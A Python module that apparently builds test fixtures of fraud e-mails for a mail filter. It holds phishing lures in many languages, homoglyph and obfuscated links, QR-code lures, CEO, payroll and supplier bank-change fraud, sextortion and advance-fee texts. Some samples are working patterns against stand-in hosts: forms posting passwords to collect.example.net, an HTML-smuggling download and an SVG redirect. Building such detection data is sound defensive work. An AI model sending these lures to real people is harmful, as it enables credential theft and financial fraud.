"""Kinds of fraud by mail, in words of our own: what is asked for and how it is sent, with harmless hosts.

No program, no address of a wallet that anybody has, no site that exists but those of services, which stand for what is put there.
"""
import qr
from letters import TO, coded, letter, part, token

FRAUD = []
EVIL = "accounts.example.net"                       # nobody's sender
VICTIM = "buero@tischlerei-muster.example"          # a mailbox that was broken into


def add(kind, *words, **more):
    more.setdefault("code", "8bit")  # as they are cited
    FRAUD.append(("%02d %s" % (len(FRAUD) + 1, kind), letter(*words, **more)))


def page(lines, button, link, around=""):
    return '<html><body>%s%s<p><a href="%s" style="background:#0067b8;color:#fff;padding:10px">%s</a></p></body></html>' % (around, "".join("<p>%s</p>" % line for line in lines), link, button)


def lure(kind, sender, subject, lines, button, link, **more):
    around = more.pop("around", "")
    add(kind, sender, subject, None, page(lines, button, link, around), **more)


# ---- passwords ------------------------------------------------------------------------------------------------------

lure("mailbox is full", "Mail Administrator <%s>" % VICTIM, "Your mailbox is almost full", ["Dear maria.lang,", "Your mailbox is almost full. Incoming messages will be returned within 24 hours."], "Increase quota", "https://mbx-%s.web.app/login#%s" % ("k3x9q7", TO), signed=["tischlerei-muster.example"])
lure("password expires", "IT Help Desk <%s>" % VICTIM, "Password expiry notice for maria.lang@example.org", ["Your password expires today.", "Keep the same password by confirming below."], "Keep my password", "https://%s/owa/?e=%s" % (EVIL, coded(TO)))
lure("IT department, one letter a digit", "IT Service <it@examp1e.org>", "Wartung Ihres Postfachs", ["Bitte melden Sie sich nach der Wartung einmal neu an."], "Anmelden", "https://mail.examp1e.org/owa/")
lure("IT department, own name in front", "IT Service <it@kontor.example>", "Wartung", ["Your mailbox must be validated after the migration."], "Sign in", "https://example.org.owa-portal.net/owa/")
lure("messages on hold", "Mail Delivery <delivery@%s>" % "kontor.example", "(5) pending messages", ["5 quarantined messages are on hold.", "Release all messages within 24 hours."], "Release messages", "https://storage.googleapis.com/x7/%s.html#%s" % (token("q", n=10), TO))
lure("voicemail", "Voice Service <vm@kontor.example>", "New voicemail from +1 555 0100", ["You have a new voicemail of 0:31."], "Play message", "https://vm-play.pages.dev/#%s" % TO)
lure("shared document", "SharePoint <share@%s>" % "kontor.example", "Ravi shared a document with you", ["Ravi shared a document with you.", "Sign in to keep it."], "Open", "https://documents.example.net/s/%s?email=%s" % (token("d"), TO))
lure("contract to sign", "DocuSign <dse@kontor.example>", "Completed document: please review and sign", ["Review document: Agreement 118."], "Review document", "https://sign.example.net/%s" % token("ds"))
lure("storage is full, brand", "iCloud Support <icloud@kontor.example>", "Your cloud storage is full", ["Your photos and videos will be deleted today."], "Upgrade", "https://t.ly/ab12C")
lure("payment failed, brand", "Netflix <info@kontor.example>", "Payment failed", ["Your payment was declined. Update your payment details within 48 hours."], "Update", "https://billing.example.net/n")
lure("bank, German", "Sparkasse Kundenservice <service@kontor.example>", "Ihr pushTAN-Zugang läuft ab", ["Sehr geehrte Kundin,", "Ihr Konto wurde eingeschränkt. Bestätigen Sie Ihre Daten innerhalb von 24 Stunden."], "Jetzt bestätigen", "https://kunden.example.net/s")
lure("bank in its own name", "Bradesco <contato@bradesco.com.br>", "Seus pontos estão prestes a expirar", ["Regularize seu cadastro nas próximas 24 horas."], "Resgatar", "https://pontos-118.run.app/x")
lure("health insurance, French", "Assurance Maladie <info@kontor.example>", "Votre carte vitale doit être renouvelée", ["Mettre à jour votre carte vitale sous 48 heures."], "Mettre à jour", "https://ameli.example.net/")
lure("bank, Spanish", "Santander <avisos@kontor.example>", "Su cuenta ha sido bloqueada", ["Detectamos actividad inusual. Verifique su cuenta en las próximas 24 horas."], "Verificar", "https://cutt.ly/abCd12")
lure("bank, Dutch", "Rabobank <klant@kontor.example>", "Uw rekening is geblokkeerd", ["Laatste waarschuwing: gegevens bevestigen binnen 24 uur."], "Bevestigen", "https://rabo.example.net/")
lure("bank, Italian", "Servizio Clienti <info@kontor.example>", "Il suo conto è stato sospeso", ["Ultimo avviso: aggiornare i suoi dati entro 24 ore."], "Accedi", "https://conto-sicuro.netlify.app/")
lure("look-alike name", "PaypaI <service@kontor.example>", "Unusual activity", ["We noticed unusual activity. Confirm your identity."], "Confirm", "https://pp.example.net/")
lure("name in other letters", "Mіcrosoft Account <ms@kontor.example>", "Unusual sign-in activity", ["Suspicious sign in from a new place."], "Review", "https://ms.example.net/")
lure("link shows another site", "Account Team <team@kontor.example>", "Verify your account", ["Verify your account:"], "https://www.example.org/account", "https://login.example.net/x")
lure("bare address", "Support <support@kontor.example>", "Account suspension", ["Your account will be suspended."], "Sign in", "http://203.0.113.77/login")
lure("bare address as a number", "Support <support@kontor.example>", "Notice", ["Your account is limited."], "Sign in", "http://3405803853/login")
lure("name before the host", "Support <support@kontor.example>", "Notice", ["Restore access to your account."], "Sign in", "https://www.paypal.com@login.example.net/")
lure("company in the host", "Support <support@kontor.example>", "Confirm your account", ["Confirm your account now."], "Sign in", "https://paypal.com.login-118.example.net/")
lure("international host", "Support <support@kontor.example>", "Your account", ["Please confirm your details."], "Sign in", "https://www.аррӏе.com/id")
lure("page of nobody", "Notice <notice@kontor.example>", "Verify your mailbox", ["Validate your mailbox."], "Validate", "https://ipfs.io/ipfs/%s?%s" % (token("ipfs", n=40), TO))
lure("wallet", "MetaMask <care@kontor.example>", "Verify your wallet", ["Wallet verification is required. Enter your recovery phrase."], "Verify wallet", "https://wallet.example.net/")
lure("tokens for free", "Tether <drop@kontor.example>", "Airdrop: claim for eligible wallets", ["Connect your wallet and claim your tokens before the last chance."], "Claim", "https://claim.example.net/")
lure("redirect of a large site", "HR <%s>" % VICTIM, "Payroll: action required", ["Review document: your payroll information.", "Action required."], "Open", "https://www.google.com/url?q=https%%3A%%2F%%2Fhr.example.net%%2F%s" % token("hr"))
lure("consent", "Teams <t@kontor.example>", "Shared with you", ["A file was shared with you."], "Open", "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=%s&redirect_uri=https%%3A%%2F%%2Fapp.example.net&scope=Mail.Read" % token("c"))
lure("page in a script's folder", "Courier <c@kontor.example>", "Tracking", ["Your package could not be delivered."], "Track", "http://blog.example.net/wp-includes/js/t/index.php?%s" % token("wp"))
lure("hidden words", "Bank Alerts <alerts@kontor.example>", "Account alert", ["Your account has been locked."], "Unlock", "https://chs.example.net/", around='<div style="font-size:0">%s</div>' % " ".join(token("w%d" % i, n=6) for i in range(80)))
lure("words split by nothing", "Support <s@kontor.example>", "Alert", ["Ver\u200bify yo\u200bur acc\u200bount or it will be sus\u200bpended, con\u200bfirm your pass\u200bword im\u200bmediately."], "Go", "https://x.example.net/")
add("form in the message", "Web Mail <wm@kontor.example>", "Sign in again", None, '<html><body><form action="https://collect.example.net/p" method="post">E-mail <input name="e"> Password <input type="password" name="p"><input type="submit"></form></body></html>')
add("page as a file", "Accounts <a@kontor.example>", "Remittance advice", "See the attachment.\r\n", files=[part("text/html", '<html><body><form action="https://collect.example.net/p"><input type="password" name="p"></form></body></html>', name="Remittance.html", code="base64")])
add("file built in the browser", "Accounts <a@kontor.example>", "Invoice", "See the attachment.\r\n", files=[part("text/html", "<html><script>var d=atob('%s');var b=new Blob([d]);var u=URL.createObjectURL(b);var a=document.createElement('a');a.href=u;a.download='x.zip';a.click();</script></html>" % (token("b", n=40) * 80), name="Invoice.html", code="base64")])
add("picture with a form", "Fax <fax@kontor.example>", "Fax received", "See the attachment.\r\n", files=[part("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg"><script>location.href="https://x.example.net/#%s"</script></svg>' % TO, name="fax.svg", code="base64")])
add("code for cameras, of letters", "Security <sec@kontor.example>", "Authenticator will expire", None, "<html><body><p>Scan the QR code below to keep access.</p><pre>%s</pre></body></html>" % "\n".join("█▀▄ ▄▀█" * 4 for _ in range(16)))
lure("code for cameras, picture", "MFA Service <%s>" % VICTIM, "Your authenticator will expire", ["Scan the QR code below within 24 hours.", '<img src="https://i.imgur.com/qr.png" width="200">'], "Or sign in", "https://mfa.example.net/?u=%s" % coded(TO))

# ---- parcels, prizes ------------------------------------------------------------------------------------------------

lure("parcel, brand", "DHL Express <info@kontor.example>", "Your parcel is held at customs", ["Pay the shipping fee of 1.99 to release your parcel."], "Pay now", "https://pkg.example.net/")
lure("parcel, no brand, shortener", "Delivery <info@kontor.example>", "Delivery attempt failed", ["Your package could not be delivered. Reschedule delivery."], "Reschedule", "https://is.gd/aB3dE")
lure("parcel in Portuguese", "Correios <avisos@correios>", "Sua encomenda aguarda pagamento", ["Encomenda retida: taxa de importação pendente."], "Pagar", "https://taxa.example.net/", bounce="www@host.example.net")
lure("parcel in French", "Chronopost <suivi@kontor.example>", "Votre colis est en attente", ["Frais de douane de 1,99 EUR."], "Payer", "https://colis.example.net/")
lure("fine in traffic", "Departamento DETRAN <aviso@kontor.example>", "Multa vinculada à sua CNH", ["Evite a suspensão: último aviso."], "Consultar", "https://multa-118.run.app/")
lure("prize of a shop", "★ Lidl Gewinnspiel ★ <info@kontor.example>", "Sie haben gewonnen", ["Herzlichen Glückwunsch! Sie wurden ausgewählt."], "Abholen", "https://gewinn.example.net/")
lure("prize, picture only", "Rewards <r@kontor.example>", "Claim your reward", ['<img src="https://i.imgur.com/a.png" width="600">'], "x", "https://tinyurl.com/ab12cd")
lure("prize at a stranger's host", "Bonus <noreply@bonus-1a2b.firebaseapp.com>", "Ihr Bonus wartet", ["200 Freispiele warten."], "Jetzt", "https://casino.example.net/")
lure("letters at random", "Cloud Alert <qKjRtLxBvN@promo.kontor.example>", "Storage limit reached", ["Your storage is full."], "Upgrade", "https://promo.example.com/x")
lure("decorated name", "---✔ Starbucks Reward ✔--- <n@kontor.example>", "Your exclusive reward", ["Take this survey."], "Go", "https://s.example.net/")
lure("subscription ends, scam", "McAfee Renewal <m@kontor.example>", "Subscription has expired", ["Your device is at risk. Last warning."], "Renew", "https://mc.example.net/")
lure("machine of a customer", "Support <s@kontor.example>", "Verify your identity", ["Verify your identity."], "Verify", "http://203-0-113-77.static.example.net/x")

lure("wallet, domain with its name", "Trust Wallet <noreply@support-trustwallet.example>", "Last reminder", ["Your wallet must be validated.", "Enter your recovery phrase within 24 hours."], "Open wallet", "https://help.example.net/w")
lure("tokens", "Starknet <hello@kontor.example>", "Claim your tokens", ["Connect your wallet to claim your tokens.", "The airdrop is on chain for token holders."], "Claim", "https://claim-118.pages.dev/")
lure("small L for a capital I", "Refund <refund@kontor.example>", "[lRS] Tax refund ready", ["Your refund is ready. Confirm your details within 24 hours."], "Refund", "https://tax.example.net/")
lure("subject that no filter has seen", "Ouvidoria <ouvidoria@kontor.example>", "Saldo Liberado - kpS5LnEqtk1", ["Resgate seus pontos hoje."], "Resgatar", "https://pontos118.z13.web.core.windows.net/")
lure("sender of random letters", "Billing Alert <TvMNTPC@pier.kontor.example>", "Account suspended", ["Update your payment details today."], "Update", "https://pier.kontor.example/x")
lure("capital I for a small L", "Iedger <k14@kontor.example>", "Update required", ["Your wallet is out of date. Update required."], "Update", "https://upd.example.net/")

# ---- money ----------------------------------------------------------------------------------------------------------

add("boss and gift cards", "Paul Klein <paul.klein.office@gmail.com>", "Quick task", "Hi Maria,\r\n\r\nare you available? I am in a meeting and need you to run an errand. Get 5 gift cards\r\nof 100 each, scratch the back and send me pictures.\r\n\r\nPaul\r\n", more=[("Reply-To", "ceo.desk118@outlook.com")])
add("boss in the shown name", '"paul.klein@example.org" <x118@kontor.example>', "Urgent task", "Are you at your desk? I need a favor, wire transfer today.\r\n", more=[("Reply-To", "paul.klein118@gmail.com")])
add("boss wants a number", "Paul Klein <pk.118@gmail.com>", "Request", "I cant talk right now, I am in a meeting. Send me your cell number, quick task.\r\n", more=[("Reply-To", "pk.private118@yahoo.com")])
add("supplier's new account", "Lieferant Buchhaltung <rechnung@kontor.example>", "Re: Rechnung 118", "Guten Tag,\r\n\r\nwir haben eine neue Bankverbindung. Please use our new bank details for the outstanding payment,\r\nswift code follows. Change of bank is effective today.\r\n", more=[("Reply-To", "lieferant.buchhaltung@gmail.com")])
add("salary", "Ravi Nair <ravi.118@outlook.com>", "Payroll", "Hello,\r\n\r\nI changed bank. Please update my direct deposit information before payroll, my payroll must go to the new bank account.\r\n", more=[("Reply-To", "ravi.n.118@gmail.com")])
add("call us", "PayPal Billing <billing118@gmail.com>", "Invoice 118", "Your account will be charged 449.99 for the subscription renewal.\r\nIf you did not authorize this, call us at +1 (888) 555-0118 to cancel the order. Toll free helpline.\r\n")
add("call us, antivirus", "Customer Support <order.desk118@outlook.com>", "Order confirmation", "Thank you for your purchase. 399.99 has been debited for Norton. Transaction ID 118.\r\nTo claim a refund please call our helpline +1 808 555 0118.\r\n")
add("extortion", "You <hacker@kontor.example>", "I know your password", "I hacked your device and recorded a video through your webcam. I will send this video to all your contacts.\r\nPay 900 USD in bitcoin. You have 48 hours after opening this letter.\r\n")
add("extortion, German", "Ich <x@kontor.example>", "Ihr Gerät", "Ich habe Ihr Gerät gehackt, Ihre Kamera lief. Ihre Kontakte bekommen alles. Zahlen Sie in Bitcoin, you have 50 hours.\r\nThe trojan will send the video.\r\n")
add("inheritance", "Barrister Smith <barr.smith118@gmail.com>", "Next of kin", "Dear friend, my late client died without next of kin. The sum of 8.5 million dollars lies in the central bank of Togo.\r\nSend your full name and telephone number. Strictly confidential, mutual benefit.\r\n", more=[("Reply-To", "smith.chambers118@yahoo.com")])
add("donation", "Mrs. Anna <anna.donor@kontor.example>", "Donation", "I am a widow, diagnosed with cancer. I am donating 3 million euro to charity. Your email was selected. God bless you.\r\nReply with full names.\r\n", to="undisclosed-recipients:;", more=[("Reply-To", "anna.donor118@gmail.com")])
add("lottery", "Lottery Board <board@kontor.example>", "You have won", "Your email address has been selected in the lottery email draw. You have won one million united states dollars.\r\nContact our claims agent with your full name and occupation.\r\n", more=[("Reply-To", "claims118@yandex.com")])
add("box of money", "Diplomat Wood <wood118@gmail.com>", "Consignment", "I am a diplomatic agent with your consignment box, worth millions of us dollars. Reconfirm your home address and cell phone.\r\n", more=[("Reply-To", "wood.delivery118@gmail.com")])
add("loan", "Loan Office <loans@kontor.example>", "Loan offer", "We offer loans: apply for a loan of million euro at 3 percent. Amount required, phone number, full name. Get back to me.\r\n", to="undisclosed-recipients:;", more=[("Reply-To", "loan.office118@gmail.com")])
add("compensation, Portuguese", "FBI Fundos <fbi@kontor.example>", "Compensação", "Caro amigo, o fundo de compensação de 950 mil dolares foi liberado. Envie seu nome completo. Beneficiário selecionado.\r\n", more=[("Reply-To", "fundo118@gmail.com")], to="undisclosed-recipients:;")
add("partner abroad", "Wilson <wilson118@gmail.com>", "Re: Family matters", "Our law firm was contracted about the estate of a decedent worth millions, who died intestate. For the inheritance contact Mr. Richard.\r\n", more=[("Reply-To", "richard118@outlook.com")])

# ---- files ----------------------------------------------------------------------------------------------------------

add("program as a bill", "Accounts <a@kontor.example>", "Invoice", "See the attachment.\r\n", files=[part("application/octet-stream", b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(64), name="Invoice.pdf.exe")])
add("script", "Accounts <a@kontor.example>", "Invoice", "See the attachment.\r\n", files=[part("application/octet-stream", b"WScript.Echo('harmless')\r\n", name="Invoice.js")])
add("shortcut", "Accounts <a@kontor.example>", "Photos", "See the attachment.\r\n", files=[part("application/octet-stream", b"[InternetShortcut]\r\nURL=file://203.0.113.7/share/x\r\n", name="photos.url")])
add("disk image", "Shipping <a@kontor.example>", "Documents", "See the attachment.\r\n", files=[part("application/octet-stream", bytes(32768) + b"\x01CD001\x01" + bytes(2041), name="docs.iso")])
add("two names", "Accounts <a@kontor.example>", "Invoice", "See.\r\n", files=[part("application/pdf", b"MZ" + bytes(58) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(64), name="Invoice.pdf")])
add("link straight to a program", "Update <u@kontor.example>", "Update required", None, page(["Install the update immediately."], "Install", "https://dl.example.net/update.msi"))

# ---- what the server that took it in says, and domains that pose ------------------------------------------------------

lure("refuted by the last server", "Human Resources <hr@example.org>", "Updated handbook", ["Please read the new handbook."], "Open", "https://handbook-118.web.app/x",
     more=[("Authentication-Results", "mx.example.org; spf=fail smtp.mailfrom=hr@example.org; dkim=none; dmarc=fail (p=none) header.from=example.org")])
lure("domain with a company's name, own links", "PayPal <service@paypal-resolution.example>", "Case PP-118", ["There is news about your case."], "Open", "https://paypal-resolution.example/c/118")
lure("her address shown", '"service@paypal.com" <service@resolution.example>', "Case PP-118", ["There is news about your case."], "Open", "https://resolution.example/c/118")
lure("a company, and no link to her", "PayPal <info@kontor.example>", "Case PP-118", ["There is news about your case."], "Open", "https://kontor.example/c/118")

# ---- codes for cameras ------------------------------------------------------------------------------------------------


def scan(kind, sender, subject, lines, link, **more):
    """The code stands in the letter, or hangs on it as a picture."""
    code = part("image/png", qr.png(qr.picture(qr.encode(link), 4)), inline="code@x")
    add("code: " + kind, sender, subject, None, "<html><body>%s<img src=\"cid:code@x\"></body></html>" % "".join("<p>%s</p>" % line for line in lines), files=[code], **more)


scan("second factor", "Security <%s>" % VICTIM, "Renew your authenticator", ["Your authenticator will expire. Scan the QR code below with your phone."], "https://%s/mfa" % EVIL)
scan("address in the link", "Payroll <payroll@kontor.example>", "Salary adjustment", ["Scan the code below to see your adjusted salary."], "https://%s/?e=%s" % (EVIL, TO))
scan("address behind the hash", "HR <hr@kontor.example>", "Handbook 2026", ["Please sign the new handbook with your phone."], "https://docs-118.pages.dev/#%s" % TO)
scan("shortener", "Zustelldienst <info@kontor.example>", "Ihr Paket", ["Ihr Paket konnte nicht zugestellt werden. Scannen Sie den QR-Code mit dem Telefon."], "https://t.ly/ab12C")
scan("nothing but a picture", "Scanner <scan@kontor.example>", "Document", [], "https://x7q.web.app/?%s" % coded(TO))

# ---- in other languages ---------------------------------------------------------------------------------------------

for language, subject, line, button in [
    ("German", "Speicherplatz ist voll", "Ihre Mails kommen nicht mehr an. Ihr Passwort läuft heute ab, sofort handeln.", "Passwort beibehalten"),
    ("German", "Steuerrückerstattung", "Die Rückerstattung steht bereit, bitte binnen 48 Stunden beantragen.", "Beantragen"),
    ("French", "Amende impayée", "Votre amende majorée reste due. Sous 48 heures, faute de quoi elle augmente.", "Régler"),
    ("French", "Carte Vitale", "Votre nouvelle carte vitale attend. Validez vos informations sous 24h.", "Valider"),
    ("Spanish", "Tarjeta bloqueada", "Verifique su identidad para evitar el bloqueo de su cuenta.", "Verificar"),
    ("Spanish", "Multa pendiente", "Tiene una multa no pagada. Pague antes de 24 horas.", "Pagar"),
    ("Portuguese", "CPF suspenso", "Regularize o CPF hoje e evite o bloqueio.", "Regularizar"),
    ("Portuguese", "Token expirado", "Sincronize seu token, caso contrário acesso bloqueado.", "Sincronizar"),
    ("Italian", "Carta sospesa", "Confermi i suoi dati per evitare il blocco della carta.", "Confermare"),
    ("Italian", "Tessera sanitaria in scadenza", "Rinnovo tessera sanitaria entro 48 ore.", "Rinnovare"),
    ("Dutch", "Betaalpas verloopt", "Bevestig uw gegevens binnen 24 uur om blokkering te voorkomen.", "Bevestigen"),
    ("Dutch", "Openstaande boete", "Uw rekening wordt geblokkeerd: laatste aanmaning.", "Betalen"),
    ("Polish", "Konto zablokowane", "Zweryfikuj swoje konto w ciągu 24 godzin.", "Zweryfikuj"),
    ("Polish", "Zwrot podatku", "Przysługuje zwrot podatku, potwierdź swoje dane.", "Odbierz"),
    ("Japanese", "アカウントが停止されました", "不審なログインがありました。本人確認をお願いします。確認がない場合、永久に停止します。", "確認する"),
    ("Japanese", "カードが利用停止", "第三者による不正利用の可能性があります。お支払い情報を更新してください。", "更新する"),
    ("Japanese", "還付金のお知らせ", "還付金を受け取るには、至急ご確認ください。", "受け取る"),
    ("Russian", "Аккаунт заблокирован", "Подтвердите свой счёт сегодня.", "Подтвердить"),
    ("Turkish", "Hesabınız askıya alındı", "Hesabınız askıya alındı, bugün onaylayın.", "Onayla"),
    ("Greek", "Ειδοποίηση", "Ο λογαριασμός σας έχει ανασταλεί.", "Είσοδος"),
]:
    lure("in %s" % language, "Service <service@kontor.example>", subject, [line], button, "https://k3x9q7-login.web.app/")
